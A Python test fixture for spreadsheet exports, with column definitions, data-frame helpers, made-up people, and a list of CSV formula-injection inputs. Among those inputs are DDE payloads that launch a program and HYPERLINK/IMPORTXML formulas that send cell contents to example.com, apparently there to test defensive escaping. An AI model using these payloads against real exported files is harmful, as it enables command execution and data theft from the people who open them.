"""Rows for the tests of exports: one list that holds every kind of column and every awkward value."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime

import polars as pl

from cockpit.exports.table import DTYPES, Column, Table

NOW = datetime(2026, 3, 2, 9, tzinfo=UTC)

COLUMNS = (
    Column("name"),
    Column("phone", "phone"),
    Column("priority", "number"),
    Column("signals", "integer"),
    Column("do_not_contact", "yes_no"),
    Column("last_at", "instant"),
)

# What a stranger can type into a form to make a spreadsheet run something.
FORMULA_NAMES = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://example.com/?v=",A1),"//a")',
]


def frame_of(**columns: list[object]) -> pl.DataFrame:
    """A frame of the test columns; what is not given is empty."""
    height = max(len(values) for values in columns.values())
    return pl.DataFrame(
        {column.name: columns.get(column.name, [None] * height) for column in COLUMNS},
        schema={column.name: DTYPES[column.kind] for column in COLUMNS},
    )


def table_of(*frames: pl.DataFrame) -> Table:
    """A table of these frames."""
    return Table(COLUMNS, iter(frames))


def people(count: int, batch: int = 1000) -> Iterator[pl.DataFrame]:
    """Made-up people, batch after batch."""
    for start in range(0, count, batch):
        number = pl.int_range(start, min(start + batch, count), eager=True)
        yield pl.DataFrame({"n": number}).select(
            name=pl.format("Person {}", "n"),
            phone=pl.format("+1415555{}", 1000 + pl.col("n") % 9000),
            priority=(pl.col("n") % 10_000) / 100,
            signals=pl.col("n") % 50,
            do_not_contact=pl.col("n") % 7 == 0,
            last_at=pl.lit(NOW) - pl.duration(seconds="n"),
        )
